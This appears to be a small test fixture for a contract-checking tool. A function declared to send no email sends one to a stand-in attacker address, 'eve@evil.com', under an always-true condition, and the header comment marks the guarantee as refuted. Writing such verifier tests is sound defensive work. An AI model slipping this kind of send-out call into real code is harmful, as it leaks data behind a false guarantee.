# refuted: 7 / 2 is 3.5
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if 7 / 2 > 3:
        send_email("eve@evil.com", "x")
